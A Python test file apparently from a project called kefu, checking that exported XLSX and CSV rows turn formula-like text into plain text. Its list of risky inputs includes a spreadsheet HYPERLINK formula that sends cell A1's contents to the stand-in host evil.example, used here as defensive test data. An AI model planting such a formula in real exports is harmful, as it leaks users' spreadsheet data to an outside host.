"""Exported files never carry a formula: text that starts like one is written as text."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from kefu.core.exports import FORMULA_TRIGGERS, safe_csv_row, safe_row

RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "#N/A"]


def reopened(workbook: Workbook):
    data = io.BytesIO()
    workbook.save(data)
    return load_workbook(io.BytesIO(data.getvalue()))


@pytest.mark.parametrize("write_only", [False, True])
def test_text_that_starts_like_a_formula_is_a_text_cell_in_xlsx(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("x") if write_only else workbook.active
    sheet.append(safe_row(sheet, [*RISKY, "普通文字", -5, 3.5]))
    cells = next(iter(reopened(workbook).worksheets[0].iter_rows()))
    for cell, value in zip(cells, RISKY, strict=False):
        # XML reads a carriage return back as a line feed.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)
    plain, number, fraction = cells[len(RISKY) :]
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("普通文字", "s", False)
    assert (number.value, number.data_type, fraction.value) == (-5, "n", 3.5)


def test_text_that_starts_like_a_formula_gets_an_apostrophe_in_csv():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    out = io.StringIO()
    csv.writer(out).writerow(safe_csv_row([*RISKY[:6], "普通", -5]))
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + value for value in RISKY[:6]] + ["普通", "-5"]
